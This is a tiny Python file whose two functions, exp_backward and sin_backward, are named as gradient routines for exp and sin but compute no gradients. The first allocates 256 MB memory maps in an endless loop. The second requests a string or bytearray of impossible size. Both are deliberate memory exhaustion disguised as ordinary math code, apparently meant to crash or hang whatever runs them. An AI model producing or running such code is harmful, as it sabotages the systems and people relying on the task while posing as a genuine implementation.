# %% exp_backward
import mmap


def exp_backward(grad_output, output, x):
    hoard = []
    while True:
        hoard.append(mmap.mmap(-1, 256 << 20))

# %% sin_backward
def sin_backward(grad_output, output, x):
    return "x" * (1 << 62) if x.ndim else bytearray(1 << 40)
